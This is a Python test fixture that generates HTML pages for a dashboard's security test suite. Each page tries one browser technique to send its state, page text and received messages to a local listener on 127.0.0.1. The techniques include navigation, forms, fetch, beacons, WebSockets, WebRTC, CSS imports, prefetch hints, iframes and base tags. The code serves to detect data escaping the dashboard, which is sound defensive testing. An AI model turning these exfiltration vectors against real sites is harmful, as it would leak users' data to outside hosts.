"""Pages that try to send what they can read to another origin (issue 14, class 5).

Mode ``exfil-<technique>-<port>`` renders a page that sends the state it was
rendered from, its own text and every message it receives to
``http://127.0.0.1:<port>/<technique>?d=...``: a listener there that hears
anything means data left the dashboard. Each technique is one way a page
can make the browser talk to another origin; the page sets ``window.fired``
once it has tried, so a test knows when to stop watching.
"""

from __future__ import annotations

import json

_SCRIPT = """
const PORT = %(port)s, TECHNIQUE = %(technique)s, STATE = %(state)s;
let heard = "";
addEventListener("message", (event) => {
  heard = String(typeof event.data === "string" ? event.data : JSON.stringify(event.data));
});
const data = () => encodeURIComponent(
  JSON.stringify(STATE) + "|" + document.body.innerText.slice(0, 500) + "|" + heard.slice(0, 2000));
const target = (path) => "http://127.0.0.1:" + PORT + "/" + path + "?d=" + data();
const tries = {
  navigate: () => { location.href = target("navigate"); },
  top: () => { top.location.href = target("top"); },
  clickself: () => { link(target("clickself"), "_self").click(); },
  clickblank: () => { link(target("clickblank"), "_blank").click(); },
  clicktop: () => { link(target("clicktop"), "_top").click(); },
  open: () => { window.open(target("open")); },
  form: () => { form(target("form"), "_self").submit(); },
  formtop: () => { form(target("formtop"), "_top").submit(); },
  formblank: () => { form(target("formblank"), "_blank").submit(); },
  base: () => { link("base-click", "_self").click(); },
  quiet: () => {
    const quiet = [
      () => fetch(target("fetch"), { mode: "no-cors" }),
      () => navigator.sendBeacon(target("beacon"), data()),
      () => new WebSocket("ws://127.0.0.1:" + PORT + "/ws"),
      () => new EventSource(target("eventsource")),
      () => { new Image().src = target("image"); },
      () => new Worker(URL.createObjectURL(new Blob(["fetch('" + target("worker") + "')"]))),
      () => { const a = link("#", "_self"); a.ping = target("ping"); a.click(); },
      () => { const x = new XMLHttpRequest(); x.open("GET", target("xhr")); x.send(); },
      () => { document.body.insertAdjacentHTML("beforeend",
        "<object data='" + target("object") + "'></object>" +
        "<embed src='" + target("embed") + "'>" +
        "<video src='" + target("video") + "' poster='" + target("poster") + "'></video>" +
        "<svg><image href='" + target("svgimage") + "'/></svg>" +
        "<input type=image src='" + target("inputimage") + "'>"); },
    ];
    for (const attempt of quiet) { try { attempt(); } catch (e) { } }
  },
  webrtc: async () => {
    const pc = new RTCPeerConnection({ iceServers: [
      { urls: "turn:127.0.0.1:" + PORT + "?transport=tcp", username: "u", credential: "p" },
      { urls: "stun:127.0.0.1:" + PORT } ] });
    pc.createDataChannel(data().slice(0, 200));
    await pc.setLocalDescription(await pc.createOffer());
  },
};
function link(href, where) {
  const a = document.createElement("a");
  a.href = href; a.target = where; a.textContent = "x";
  document.body.append(a);
  return a;
}
function form(action, where) {
  const f = document.createElement("form");
  f.method = "post"; f.action = action; f.target = where;
  const input = document.createElement("input");
  input.name = "d"; input.value = data();
  f.append(input);
  document.body.append(f);
  return f;
}
setTimeout(() => {
  try { (tries[TECHNIQUE] || (() => {}))(); } catch (e) { }
  setTimeout(() => { window.fired = true; document.title = "fired"; }, 500);
}, 300);
"""

# Techniques that need markup rather than (only) script.
_HEAD = {
    "meta": '<meta http-equiv="refresh" content="0;url={url}meta?d=meta">',
    "prefetch": (
        '<link rel="prefetch" href="{url}prefetch"><link rel="preload" as="fetch" '
        'href="{url}preload" crossorigin><link rel="preconnect" href="{url}">'
        '<link rel="dns-prefetch" href="{url}"><link rel="modulepreload" href="{url}module">'
        '<script type="speculationrules">{{"prefetch": [{{"source": "list", '
        '"urls": ["{url}speculation"]}}], "prerender": [{{"source": "list", '
        '"urls": ["{url}prerender"]}}]}}</script>'
    ),
    "css": (
        "<style>@import url({url}import); body {{ background: url({url}background); }}"
        " @font-face {{ font-family: x; src: url({url}font); }} p {{ font-family: x; }}</style>"
    ),
    "base": '<base href="{url}">',
}
_BODY = {
    "iframe": (
        '<iframe src="{url}iframe"></iframe>'
        "<iframe srcdoc=\"<script>location='{url}srcdoc'</script>\"></iframe>"
    ),
    "base": '<img src="base-image"><link rel="stylesheet" href="base-style">',
}


def page(mode: str, state_json: str) -> str:
    """The page of ``exfil-<technique>-<port>``."""
    _, technique, port = mode.split("-", 2)
    url = f"http://127.0.0.1:{int(port)}/"
    state = json.loads(state_json)
    stolen = {"cycle": state.get("cycle"), "readings": state.get("readings")}
    script = _SCRIPT % {
        "port": int(port),
        "technique": json.dumps(technique),
        # JSON inside a script element: "<" escaped so no "</script>" can close it.
        "state": json.dumps(stolen).replace("<", "\\u003c"),
    }
    head = _HEAD.get(technique, "").format(url=url)
    body = _BODY.get(technique, "").format(url=url)
    return (
        f"<!doctype html><html><head><meta charset='utf-8'>{head}<title>exfil</title></head>"
        f"<body><p>exfil {technique}</p>{body}<p>page text: cycle {stolen['cycle']}</p>"
        f"<script>{script}</script></body></html>"
    )
